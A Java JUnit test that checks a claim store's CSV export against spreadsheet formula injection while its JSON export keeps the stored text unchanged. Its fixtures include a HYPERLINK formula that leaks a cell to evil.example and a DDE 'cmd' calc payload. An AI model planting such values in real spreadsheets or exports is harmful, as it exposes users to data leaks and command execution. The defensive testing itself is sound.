package org.treatywatch.store.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.treatywatch.core.claim.Claim;
import org.treatywatch.core.claim.ClaimType;
import org.treatywatch.core.claim.Evidence;
import org.treatywatch.core.claim.Modality;
import org.treatywatch.core.claim.Quantity;
import org.treatywatch.core.claim.Speaker;
import org.treatywatch.core.claim.Weapon;
import org.treatywatch.core.document.Document;
import org.treatywatch.store.ClaimQuery;
import org.treatywatch.store.Store;
import org.treatywatch.store.Stores;

/**
 * Text from the news that a spreadsheet would run as a formula (OWASP, "CSV Injection") reaches
 * the CSV export neutralised by a leading single quote, and the JSON export unchanged.
 */
class CsvInjectionTest {
    @TempDir
    Path dir;

    private static final String TEXT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Lithuania will produce mines.\n"
            + "@SUM(1+1) and\tmore.";

    private final Document doc = new Document("+cmd|' /C calc'!A0", TEXT, "-2+3", null, null, null);

    private Claim claim(int start, int end, String speaker) {
        return new Claim(doc.id(), ClaimType.PRODUCTION, "LTU", Modality.PLANNED, null, null, Weapon.AP_MINE, null,
                null, new Quantity(2L, 2L, "mines"), null, null, new Speaker(speaker, "\rrole", "LTU"),
                Evidence.of(TEXT, start, end));
    }

    private String export(Exports.Format format) throws Exception {
        try (Store store = Stores.open(dir.resolve("x.db").toString())) {
            int second = TEXT.indexOf('@');
            store.addDocument(doc, List.of(claim(0, TEXT.indexOf('\n'), "-minister"), claim(second, TEXT.length(), "\tx")),
                    "rules-1");
            StringWriter out = new StringWriter();
            Exports.claims(store, ClaimQuery.all(), format, out);
            return out.toString();
        }
    }

    /** The cells of a CSV line, unquoted (RFC 4180, no line breaks inside cells here). */
    private static List<String> cells(String line) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (quoted && c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') {
                cell.append('"');
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (c == ',' && !quoted) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }

    @Test
    void csv_prefixesEveryFormulaLikeTextCellWithAQuote() throws Exception {
        String[] lines = export(Exports.Format.CSV).split("\r\n");
        List<String> header = cells(lines[0]);
        assertThat(lines).hasSize(3);
        for (int i = 1; i < lines.length; i++) {
            List<String> row = cells(lines[i]);
            assertThat(row.get(header.indexOf("doc"))).isEqualTo("'+cmd|' /C calc'!A0");
            assertThat(row.get(header.indexOf("evidence_text"))).startsWith("'").satisfiesAnyOf(
                    e -> assertThat(e).startsWith("'=HYPERLINK("), e -> assertThat(e).startsWith("'@SUM(1+1)"));
            assertThat(row.get(header.indexOf("speaker_name"))).isIn("'-minister", "'\tx");
            assertThat(row.get(header.indexOf("speaker_role"))).isEqualTo("'\rrole");
            assertThat(row.get(header.indexOf("quantity_min"))).isEqualTo("2"); // numbers stay numbers
            assertThat(row).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
                    .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
        }
    }

    @Test
    void json_keepsTheTextAsStored() throws Exception {
        JsonNode rows = new ObjectMapper().readTree(export(Exports.Format.JSON));
        assertThat(rows).hasSize(2).allSatisfy(r -> assertThat(r.get("doc").asText()).isEqualTo(doc.id()));
        assertThat(rows).anySatisfy(r -> assertThat(r.get("evidence_text").asText()).startsWith("=HYPERLINK("));
    }
}
